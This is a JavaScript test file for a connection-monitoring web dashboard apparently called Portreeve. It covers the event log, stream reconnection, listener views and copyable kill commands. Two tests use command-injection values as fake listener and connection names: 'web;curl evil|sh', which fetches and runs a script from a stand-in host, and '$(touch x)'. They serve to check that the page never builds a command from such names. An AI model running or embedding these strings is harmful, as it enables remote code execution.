// The views of events and of one listener in Chromium, before a daemon that says
// what each test wants.
'use strict';

const assert = require('node:assert');
const {after, afterEach, before, beforeEach, test} = require('node:test');
const {Browser, NOW, cells, until} = require('./browser.js');
const {FakeDaemon} = require('./fake_daemon.js');

const PAGE = process.env.PAGE_FILES;

const browser = new Browser();
before(() => browser.start());
after(() => browser.stop());

let daemon;
beforeEach(async () => { daemon = await new FakeDaemon(PAGE).start(); });
afterEach(() => daemon.kill());

const state = (page, name) => page.locator(`#state.${name}`).waitFor();

function connection(i, more = {}) {
  return {
    name: `connections/c${i}`, listener: 'listeners/web',
    direction: 'DIRECTION_INBOUND', state: 'CONNECTION_STATE_OPEN',
    peer: {inet: {address: '10.0.0.9', port: 50000 + i}},
    upstream: {inet: {address: 'fd00::4', port: 8080}},
    bytesReceived: '585', bytesSent: '2048', createTime: '2026-11-28T19:59:00Z',
    ...more,
  };
}
const closed = (i, reason) => connection(i, {
  state: 'CONNECTION_STATE_CLOSED', closeTime: '2026-11-28T20:00:00Z',
  closeReason: `CLOSE_REASON_${reason}`,
});

test('events: what is shown, what is counted, and what is missing', async () => {
  daemon.listener('web');
  daemon.listener('api');
  await browser.show(`${daemon.url}#events`, {}, async (page) => {
    await state(page, 'live');
    await until(page, () => document.querySelector('#log .empty:not([hidden])'));
    const seen = (n) => until(page, (text) =>
      document.querySelector('#log-count').textContent === text, `${n} seen`);
    let now = NOW;
    const nextSecond = () => page.clock.setFixedTime(now += 1000);
    // All in one second.
    for (let i = 0; i < 49; ++i) daemon.event({connectionAccepted: {connection: connection(i)}});
    daemon.event({connectionClosed: {connection: closed(1, 'PEER_RESET')}});
    for (let i = 0; i < 1234; ++i) {
      daemon.event({connectionAccepted: {connection: connection(i)}});
    }
    daemon.event({gap: {firstRevision: '7', lastRevision: '9', count: '3'}});
    await seen('1,285');
    const lines = page.locator('#log .entry');
    assert.strictEqual(await lines.count(), 52);
    assert.match(await lines.nth(0).innerText(), /3 events are missing here, 7 to 9/);
    assert.strictEqual(await lines.nth(0).evaluate(
        (line) => getComputedStyle(line).color), 'rgb(191, 44, 36)');
    assert.match(await lines.nth(1).innerText(), /and 1,234 more in this second/);
    assert.match(await lines.nth(2).innerText(), /connection_closed\s+connections\/c1\s+tcp:10\.0\.0\.9:50001\s+→ tcp:\[fd00::4\]:8080\s+PEER_RESET\s+after 1 min 0 s/);

    // Paused, it stands still.
    await nextSecond();
    await page.click('#pause');
    daemon.event({limitReached: {listener: 'listeners/web', limit: 10}});
    await until(page, () =>
      document.querySelector('#log-count').textContent === '1 came meanwhile');
    assert.strictEqual(await lines.count(), 52);
    await page.click('#pause');
    assert.strictEqual(await lines.count(), 53);
    assert.match(await lines.nth(0).innerText(), /limit_reached/);

    // Many seconds.
    for (let s = 0; s < 25; ++s) {
      await nextSecond();
      for (let i = 0; i < 50; ++i) {
        daemon.event({connectionAccepted: {connection: connection(i)}});
      }
      await seen((1285 + 1 + 50 * (s + 1)).toLocaleString('en-US'));
    }
    assert.strictEqual(await lines.count(), 1000);

    // Filters.
    await nextSecond();
    daemon.event({listenerUpdated: {listener: {name: 'listeners/api',
      spec: daemon.listeners.get('api').spec}}});
    await seen('2,537');
    await page.fill('#of', 'api');
    assert.strictEqual(await page.locator('#log .entry:not(.more)').count(), 1);
    await page.fill('#of', '');
    await page.selectOption('#kind', 'connection_closed');
    await page.locator('#log .entry.note', {hasText: 'not followed'}).waitFor();
    await until(page, () => !document.querySelector('#log .entry:not(.more, .note)'));
    assert.strictEqual(await page.locator('#log .entry.note').count(), 1);
    assert.strictEqual(await page.getAttribute('#log', 'role'), 'log');
  });
});

test('the daemon is asked for the kinds that are wanted only', async () => {
  daemon.listener('web');
  await browser.show(daemon.url, {}, async (page) => {
    const asked = async () => {
      while (daemon.events.size !== 1 || [...daemon.events][0] === asked.last) {
        await new Promise(setImmediate);
      }
      [asked.last] = daemon.events;
      return asked.last.query;
    };
    await state(page, 'live');
    const kinds = (await asked()).getAll('kind');
    assert.ok(kinds.includes('LISTENER_UPDATED'));
    assert.ok(!kinds.some((kind) => kind.startsWith('CONNECTION')), `${kinds}`);
    // A snapshot of all connections is for nobody here.
    await page.click('text=Events');
    assert.deepStrictEqual([...await asked()], [['snapshot', 'listeners']]);
    await page.selectOption('#kind', 'connection_closed');
    assert.ok((await asked()).getAll('kind').includes('CONNECTION_CLOSED'));
    await page.goto(`${daemon.url}#listener/web`);
    assert.deepStrictEqual([...await asked()],
        [['snapshot', 'listeners'], ['listener', 'web']]);
    assert.strictEqual(daemon.stats.size, 1);
    assert.ok(daemon.asked.filter((target) => target.startsWith('/events?'))
        .every((target) => target.includes('snapshot=listeners')));
  });
});

const FULL = [503, 'text/plain; charset=utf-8', 'there are too many streams\n'];

test('a stream that was refused goes on, and makes nothing new of what there was', async () => {
  daemon.listener('web');
  daemon.listener('api');
  for (const view of ['events', 'listener/web']) {
    const options = {allowed: /Failed to load resource|ERR_/};
    await browser.show(`${daemon.url}#${view}`, options, async (page) => {
      const log = view === 'events' ? '#log' : '#l-log';
      const kinds = () => page.locator(`${log} .entry .kind`).allInnerTexts();
      const logged = (n) => until(page, ([of, wanted]) =>
        document.querySelectorAll(`${of} .entry`).length === wanted, [log, n]);
      const limit = (i) => daemon.event({limitReached: {listener: 'listeners/web', limit: i}});
      await state(page, 'live');
      while (daemon.events.size !== 1) await new Promise(setImmediate);
      limit(1);
      await logged(1);
      // As where 64 others have come first; the browser gives up at once.
      daemon.refusals.set('/events', FULL);
      daemon.refused = 0;
      for (const stream of daemon.events) stream.destroy();
      while (daemon.refused < 3) await new Promise(setImmediate);
      limit(2);
      daemon.refusals.clear();
      await logged(2);
      limit(3);
      await logged(3);
      assert.deepStrictEqual(await kinds(), Array(3).fill('limit_reached'));

      // Another life meanwhile: what there is in it is no news either.
      daemon.refusals.set('/events', FULL);
      daemon.refused = 0;
      for (const stream of daemon.events) stream.destroy();
      while (daemon.refused < 3) await new Promise(setImmediate);
      daemon.instance += '-again';
      daemon.kept = [];
      daemon.refusals.clear();
      await page.locator(`${log} .entry.note`, {hasText: 'not followed'}).waitFor();
      limit(4);
      await logged(5);
      assert.deepStrictEqual(await kinds(), ['limit_reached', '',
        'limit_reached', 'limit_reached', 'limit_reached']);
    });
  }
});

const EVIL = 'web;curl evil|sh\n';

test('what names no listener has no command, and nothing is asked about it', async () => {
  daemon.listener('web', {spec: {labels: {team: 'edge'}}});
  daemon.connections.push(connection(1));
  for (const id of [EVIL, 'Web', '-web', '', 'web/x', 'web\n', '$(touch x)']) {
    const place = `#listener/${encodeURIComponent(id)}`;
    await browser.show(`${daemon.url}#listener/web`, {}, async (page) => {
      const copies = page.locator('#listener .copy:visible');
      // Of one that is, it knows all; nothing of that is left.
      await page.locator('#l-open .copy').waitFor();
      await page.locator('#l-spec', {hasText: 'team=edge'}).waitFor();
      assert.strictEqual(await copies.count(), 4);
      daemon.asked = [];
      await page.evaluate((to) => { location.hash = to; }, place);
      await page.locator('#l-state', {hasText: 'there is none'}).waitFor();
      await until(page, () => document.querySelectorAll('#l-open tr').length === 0);
      assert.strictEqual(await copies.count(), 0);
      assert.strictEqual(await page.locator('#l-facts:visible').count(), 0);
      assert.strictEqual(await page.textContent('#l-name'), '');
      assert.strictEqual(await page.title(), 'Portreeve');
      await page.clock.runFor(5000);
      while (!daemon.asked.length) await new Promise(setImmediate);
      assert.ok(daemon.asked.every((target) => target.startsWith('/events?') &&
          !target.includes('listener=')), `${daemon.asked}`);
      // The same where the page begins with it.
      await page.goto('about:blank');
      await page.goto(`${daemon.url}${place}`);
      await page.locator('#l-state', {hasText: 'there is none'}).waitFor();
      assert.strictEqual(await copies.count(), 0);
      assert.ok(!(await page.content()).includes('curl'));
    });
  }
});

test('a name that is none of a connection goes into no command', async () => {
  daemon.listener('web');
  daemon.connections.push(connection(1, {name: `connections/${EVIL}`}), connection(2));
  await browser.show(`${daemon.url}#listener/web`, {}, async (page) => {
    await page.locator('#l-page', {hasText: '2 open'}).waitFor();
    const copies = page.locator('#l-open .copy:visible');
    assert.deepStrictEqual(await copies.evaluateAll(
        (buttons) => buttons.map((button) => button.title)),
    ['Copy: portreeve kill connections/c2']);
    assert.ok(!(await page.content()).includes('kill connections/web'));
  });
});

test('how long a connection has lived is a matter of the daemon’s clock', async () => {
  daemon.listener('web');
  daemon.connections.push(connection(1));
  await browser.show(`${daemon.url}#listener/web`, {}, async (page) => {
    await page.clock.setFixedTime(NOW + 86400000);
    daemon.time += 1000;
    daemon.tick();
    await page.locator('#l-open td', {hasText: '1 min 2 s'}).waitFor();
  });
});

test('one listener: what it is, its connections, and the commands for it', async () => {
  daemon.listener('web', {
    spec: {handler: {forward: {upstream: {unixSocket: {path: '\0app'}}}}},
    connectionDuration: {counts: ['0', '10', '80', '10'], sum: 1},
    status: {closedByReason: {UPSTREAM_UNREACHABLE: '3',
      'UPSTREAM_UNREACHABLE/CONNECT_REFUSED': '3'}},
  });
  for (let i = 0; i < 60; ++i) daemon.connections.push(connection(i));
  daemon.connections[0].bytesToWrite = '65536';
  const options = {permissions: ['clipboard-read', 'clipboard-write']};
  await browser.show(`${daemon.url}#listener/web`, options, async (page) => {
    await page.locator('#l-spec', {hasText: 'forward=unix:@app'}).waitFor();
    await page.locator('#l-page', {hasText: 'page 1, 25 open'}).waitFor();
    const rows = await cells(page, 'table.connections');
    assert.deepStrictEqual([rows[0][0], rows[0][1], ...rows[0].slice(3)],
        ['c0', 'open, 64.0 KiB wait', 'tcp:10.0.0.9:50000', 'tcp:[fd00::4]:8080',
          '585 B', '2.0 KiB', 'kill']);
    await page.click('#l-next');
    await page.locator('#l-page', {hasText: 'page 2'}).waitFor();
    assert.strictEqual((await cells(page, 'table.connections'))[0][0], 'c25');
    daemon.connections.splice(25, 1);
    daemon.event({connectionClosed: {connection: closed(25, 'UPSTREAM_RESET')}});
    await page.locator('#l-closed tr').waitFor();
    const last = (await cells(page, 'table.connections')).pop();
    assert.deepStrictEqual(last.slice(0, 3), ['c25', 'upstream reset', '1 min 0 s']);
    await page.locator('#l-log .entry', {hasText: 'UPSTREAM_RESET'}).waitFor();

    const kill = page.locator('#l-open .copy').first();
    assert.strictEqual(await kill.getAttribute('aria-label'),
        'Copy: portreeve kill connections/c26');
    await kill.click();
    await page.locator('#toast.shown').waitFor();
    assert.strictEqual(await page.evaluate(() => navigator.clipboard.readText()),
        'portreeve kill connections/c26');
    assert.strictEqual(await page.locator('form').count(), 0);

    assert.match(await page.innerText('#l-duration'), /≤ 4 ms\s+10\s+≤ 16 ms\s+80\s+≤ 64 ms\s+10/);
    assert.strictEqual(await page.innerText('#l-duration-quantiles'),
        'half ≤ 16 ms, 95 % ≤ 64 ms');
    assert.match(await page.innerText('#l-latency'), /--metrics-histograms=listener/);
    assert.match(await page.innerText('#l-reasons'), /upstream unreachable\s+3\s+– connect refused\s+3/);
    await page.goto(`${daemon.url}#listener/none`);
    await page.locator('#l-state', {hasText: 'there is none'}).waitFor();
  });
});
